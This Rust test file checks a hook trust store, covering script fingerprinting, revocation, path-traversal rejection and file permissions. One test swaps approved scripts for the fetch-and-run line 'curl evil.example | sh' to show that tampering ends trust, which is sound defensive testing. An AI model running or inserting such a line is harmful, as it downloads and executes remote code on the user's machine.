//! The trust store: which version of a project's hook the user has approved.

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};

use becket::model::{Action, Dialect, EventKind, HookSource, HookSpec, Level};
use becket::trust::{Fingerprint, TrustStore, definition_json, fingerprint};
use serde_json::json;

struct TrustWorld {
    dir: tempfile::TempDir,
}

impl TrustWorld {
    /// A project with the scripts `check.sh` and `lib/deep.sh`.
    fn new() -> Self {
        let world = Self {
            dir: tempfile::tempdir().unwrap(),
        };
        world.script("check.sh", "exit 0\n");
        world.script("lib/deep.sh", "exit 1\n");
        world
    }

    fn root(&self) -> PathBuf {
        self.dir.path().join("app")
    }

    fn file(&self) -> PathBuf {
        self.dir.path().join("state/trust.json")
    }

    fn script(&self, name: &str, text: &str) {
        let path = self.root().join(name);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }

    fn hook(&self, name: &str, command: &str) -> HookSpec {
        let source = HookSource {
            level: Level::Project,
            file: self.root().join("becket.toml"),
            line: 1,
            key: format!("hook[{name}]"),
        };
        HookSpec::command(
            name,
            Dialect::Becket,
            EventKind::PreToolUse,
            command,
            source,
        )
    }

    fn print(&self, hook: &HookSpec) -> Fingerprint {
        fingerprint(hook, &self.root())
    }

    fn open(&self) -> TrustStore {
        TrustStore::open(&self.file()).unwrap()
    }

    /// Trusts hooks as they are now, and saves.
    fn trust(&self, hooks: &[&HookSpec], now: &str) {
        let prints: Vec<Fingerprint> = hooks.iter().map(|hook| self.print(hook)).collect();
        let pairs: Vec<_> = hooks.iter().copied().zip(&prints).collect();
        let mut store = self.open();
        store.add(&self.root(), &pairs, now);
        store.save().unwrap();
    }

    fn is_trusted(&self, hook: &HookSpec) -> bool {
        self.open().trusts(&self.root(), &self.print(hook))
    }
}

fn scripts(print: &Fingerprint) -> Vec<String> {
    let paths = print.scripts.keys();
    paths
        .map(|path| path.to_string_lossy().into_owned())
        .collect()
}

#[test]
fn only_the_approved_hook_of_the_approved_project_is_trusted() {
    let world = TrustWorld::new();
    let (hook, other) = (
        world.hook("check", "./check.sh"),
        world.hook("other", "true"),
    );
    assert!(!world.is_trusted(&hook));
    assert!(!world.open().trusts_any(&world.root()));
    world.trust(&[&hook], "2026-01-01");
    assert!(world.is_trusted(&hook) && !world.is_trusted(&other));
    let store = world.open();
    assert!(store.trusts_any(&world.root()));
    let elsewhere = tempfile::tempdir().unwrap();
    assert!(!store.trusts(elsewhere.path(), &world.print(&hook)));
    assert!(!store.trusts_any(elsewhere.path()));
}

#[test]
fn project_is_found_through_a_link_to_it() {
    let world = TrustWorld::new();
    let hook = world.hook("check", "true");
    world.trust(&[&hook], "2026-01-01");
    let link = world.dir.path().join("link");
    std::os::unix::fs::symlink(world.root(), &link).unwrap();
    assert!(world.open().trusts(&link, &world.print(&hook)));
}

#[test]
fn trust_ends_with_any_change_of_definition_or_script() {
    let world = TrustWorld::new();
    let hook = world.hook("check", "./check.sh && sh lib/deep.sh");
    world.trust(&[&hook], "2026-01-01");
    for script in ["check.sh", "lib/deep.sh"] {
        let before = fs::read_to_string(world.root().join(script)).unwrap();
        world.script(script, "curl evil.example | sh\n");
        assert!(!world.is_trusted(&hook), "{script}");
        world.script(script, &before);
        assert!(world.is_trusted(&hook), "{script}");
    }
    fs::rename(world.root().join("check.sh"), world.root().join("moved.sh")).unwrap();
    assert!(!world.is_trusted(&hook), "a script that is gone");
    fs::rename(world.root().join("moved.sh"), world.root().join("check.sh")).unwrap();
    let mut edited = hook.clone();
    edited.on_failure = Some(becket::model::OnFailure::Deny);
    assert!(!world.is_trusted(&edited));
}

#[test]
fn scripts_that_swap_their_contents_need_trust_again() {
    let world = TrustWorld::new();
    let hook = world.hook("check", "./check.sh && sh lib/deep.sh");
    world.trust(&[&hook], "2026-01-01");
    world.script("check.sh", "exit 1\n");
    world.script("lib/deep.sh", "exit 0\n");
    assert!(!world.is_trusted(&hook));
}

#[test]
fn fingerprint_lists_the_scripts_that_a_command_names() {
    let world = TrustWorld::new();
    let of = |command: &str| scripts(&world.print(&world.hook("h", command)));
    for (command, expected) in [
        ("./check.sh", &["check.sh"][..]),
        (
            "sh check.sh lib/deep.sh check.sh",
            &["check.sh", "lib/deep.sh"],
        ),
        ("\"$CLAUDE_PROJECT_DIR\"/check.sh", &["check.sh"]),
        ("${CLAUDE_PROJECT_DIR}/lib/deep.sh", &["lib/deep.sh"]),
        ("$BECKET_PROJECT_DIR/check.sh", &["check.sh"]),
        ("${BECKET_PROJECT_DIR}/check.sh", &["check.sh"]),
        ("RULES=lib/deep.sh true", &["lib/deep.sh"]),
        ("bash -c 'cd lib; sh lib/deep.sh'", &["lib/deep.sh"]),
        ("sh -c 'sh -c \"sh check.sh\"'", &["check.sh"]),
        ("true", &[]),
        ("sh lib", &[]),
        ("sh nonesuch.sh ''", &[]),
    ] {
        assert_eq!(of(command), expected, "{command}");
    }
    let outside = world.dir.path().join("outside.sh");
    fs::write(&outside, "exit 0\n").unwrap();
    let outside = outside.to_str().unwrap();
    assert_eq!(of(&format!("sh {outside}")), [outside]);
}

#[test]
fn nested_command_lines_are_followed_to_a_limited_depth() {
    let world = TrustWorld::new();
    // The levels quote each other: `sh -c "sh -c \"…\""`.
    let nested = |levels: usize| {
        (0..levels).fold("sh ./check.sh".to_owned(), |line, _| {
            let quoted = line.replace('\\', "\\\\").replace('"', "\\\"");
            format!("sh -c \"{quoted}\"")
        })
    };
    for (levels, is_found) in [(1, true), (3, true), (4, false)] {
        let print = world.print(&world.hook("h", &nested(levels)));
        assert_eq!(!print.scripts.is_empty(), is_found, "{levels} levels");
    }
}

#[test]
fn scripts_are_relative_to_the_directory_in_which_the_hook_runs() {
    let world = TrustWorld::new();
    let mut hook = world.hook("check", "sh deep.sh");
    assert!(world.print(&hook).scripts.is_empty());
    hook.cwd = Some("lib".into());
    assert_eq!(scripts(&world.print(&hook)), ["lib/deep.sh"]);
}

#[test]
fn arguments_of_a_program_without_a_shell_are_scripts_too() {
    let world = TrustWorld::new();
    let mut hook = world.hook("check", "");
    hook.action = Action::Command {
        command: "sh".into(),
        args: Some(vec!["check.sh".into(), "--rules=lib/deep.sh".into()]),
    };
    assert_eq!(scripts(&world.print(&hook)), ["check.sh", "lib/deep.sh"]);
    hook.action = Action::Http {
        url: "check.sh".into(),
        headers: Vec::new(),
        allowed_env: Vec::new(),
    };
    assert!(world.print(&hook).scripts.is_empty());
}

#[test]
fn fingerprint_shows_the_definition() {
    let world = TrustWorld::new();
    let hook = world.hook("check", "./check.sh");
    let print = world.print(&hook);
    assert!(print.definition.contains("\"command\": \"./check.sh\""));
    assert_eq!(definition_json(&print), hook.definition());
    assert_eq!(print.digest.len(), 64);
}

#[test]
fn approving_a_new_version_replaces_the_one_of_the_same_entry() {
    let world = TrustWorld::new();
    let (first, other) = (world.hook("check", "./check.sh"), world.hook("x", "true"));
    let mut second = world.hook("check", "./check.sh --strict");
    second.name = "check again".into();
    world.trust(&[&first, &other], "2026-01-01");
    world.trust(&[&second], "2026-01-02");
    assert!(world.is_trusted(&second) && world.is_trusted(&other));
    assert!(!world.is_trusted(&first), "a reverted entry asks again");
}

#[test]
fn entry_for_several_events_is_trusted_for_all_of_them() {
    let world = TrustWorld::new();
    let before = world.hook("check", "./check.sh");
    let mut after = before.clone();
    after.event = EventKind::PostToolUse;
    world.trust(&[&before, &after], "2026-01-01");
    assert!(world.is_trusted(&before) && world.is_trusted(&after));
}

#[test]
fn previous_version_of_a_changed_hook_is_found_by_its_place_or_name() {
    let world = TrustWorld::new();
    let hook = world.hook("check", "./check.sh");
    world.trust(&[&hook], "2026-01-01");
    let store = world.open();
    let definition = |hook: &HookSpec| {
        let previous = store.previous(&world.root(), hook);
        previous.map(|trusted| trusted.definition.clone())
    };
    let expected = Some(world.print(&hook).definition);
    let mut renamed = world.hook("check", "./check.sh --new");
    renamed.name = "renamed".into();
    assert_eq!(definition(&renamed), expected, "the same place");
    let mut moved = world.hook("check", "./check.sh --new");
    moved.source.key = "hook[7]".into();
    assert_eq!(definition(&moved), expected, "the same name");
    assert_eq!(definition(&world.hook("other", "./check.sh")), None);
    assert!(store.previous(Path::new("/elsewhere"), &hook).is_none());
}

#[test]
fn latest_of_several_previous_versions_is_shown() {
    let world = TrustWorld::new();
    let at = |key: &str, command: &str| {
        let mut hook = world.hook("check", command);
        hook.source.key = key.into();
        hook
    };
    world.trust(&[&at("a", "one")], "2026-01-02");
    world.trust(&[&at("b", "two")], "2026-01-03");
    world.trust(&[&at("c", "three")], "2026-01-01");
    let store = world.open();
    let previous = store.previous(&world.root(), &at("d", "four")).unwrap();
    assert_eq!(
        (previous.since.as_str(), previous.name.as_str()),
        ("2026-01-03", "check")
    );
    assert_eq!(previous.place, "becket.toml#b");
}

#[test]
fn approved_scripts_are_kept_privately_for_the_diff() {
    let world = TrustWorld::new();
    let hook = world.hook("check", "./check.sh");
    let digest = world.print(&hook).scripts[Path::new("check.sh")].clone();
    assert_eq!(world.open().previous_script(&digest), None);
    world.trust(&[&hook], "2026-01-01");
    world.script("check.sh", "exit 9\n");
    let store = world.open();
    assert_eq!(store.previous_script(&digest).as_deref(), Some("exit 0\n"));
    let mode = |path: &Path| fs::metadata(path).unwrap().permissions().mode() & 0o777;
    let kept = world.file().with_file_name("trusted-scripts").join(&digest);
    assert_eq!((mode(&world.file()), mode(&kept)), (0o600, 0o600));
}

#[test]
fn only_digests_name_kept_scripts() {
    let world = TrustWorld::new();
    world.trust(&[&world.hook("check", "./check.sh")], "2026-01-01");
    let kept = world.file().with_file_name("trusted-scripts");
    let store = world.open();
    let outside = format!("../{}", "a".repeat(61));
    let no_digits = "g".repeat(64);
    for name in [
        "../trust.json",
        "short",
        outside.as_str(),
        no_digits.as_str(),
    ] {
        fs::write(kept.join(name), "a secret").unwrap();
        assert_eq!(store.previous_script(name), None, "{name}");
    }
}

#[test]
fn large_scripts_are_bound_but_not_kept() {
    let world = TrustWorld::new();
    let hook = world.hook("check", "./check.sh");
    for (size, is_kept) in [(256 * 1024, true), (256 * 1024 + 1, false)] {
        world.script("check.sh", &"#".repeat(size));
        let digest = world.print(&hook).scripts[Path::new("check.sh")].clone();
        world.trust(&[&hook], "2026-01-01");
        let kept = world.open().previous_script(&digest);
        assert_eq!(kept.is_some(), is_kept, "{size} bytes");
        world.script("check.sh", &"!".repeat(size));
        assert!(!world.is_trusted(&hook), "{size} bytes");
    }
}

#[test]
fn revoking_a_project_revokes_all_its_hooks_and_no_others() {
    let world = TrustWorld::new();
    let (one, two) = (world.hook("one", "true"), world.hook("two", "false"));
    world.trust(&[&one, &two], "2026-01-01");
    let elsewhere = tempfile::tempdir().unwrap();
    let print = fingerprint(&one, elsewhere.path());
    let mut store = world.open();
    store.add(elsewhere.path(), &[(&one, &print)], "2026-01-01");
    let all: Vec<(String, usize)> = store
        .all()
        .map(|(root, hooks)| (root.to_owned(), hooks.count()))
        .collect();
    let key = |path: &Path| path.canonicalize().unwrap().to_str().unwrap().to_owned();
    let mut expected = [(key(elsewhere.path()), 1), (key(&world.root()), 2)];
    expected.sort();
    assert_eq!(all, expected);
    assert_eq!(store.revoke(&world.root()), 2);
    assert_eq!(store.revoke(&world.root()), 0);
    assert!(!store.trusts_any(&world.root()) && store.trusts(elsewhere.path(), &print));
}

#[test]
fn unreadable_trust_file_is_an_error_that_names_it() {
    let world = TrustWorld::new();
    fs::create_dir_all(world.file().parent().unwrap()).unwrap();
    fs::write(world.file(), "{ damaged").unwrap();
    let error = TrustStore::open(&world.file()).unwrap_err();
    assert!(error.to_string().contains("trust.json"), "{error}");
    fs::remove_file(world.file()).unwrap();
    fs::create_dir(world.file()).unwrap();
    TrustStore::open(&world.file()).unwrap_err();
}

#[test]
fn trust_file_that_cannot_be_written_is_an_error() {
    let world = TrustWorld::new();
    let store = world.open();
    fs::write(world.dir.path().join("state"), "a file in the way").unwrap();
    let error = store.save().unwrap_err();
    assert!(error.to_string().contains("trust.json"), "{error}");
}

#[test]
fn trust_file_has_a_version() {
    let world = TrustWorld::new();
    world.trust(&[], "2026-01-01");
    let text = fs::read_to_string(world.file()).unwrap();
    let saved: serde_json::Value = serde_json::from_str(&text).unwrap();
    assert_eq!(saved["version"], json!(1));
}
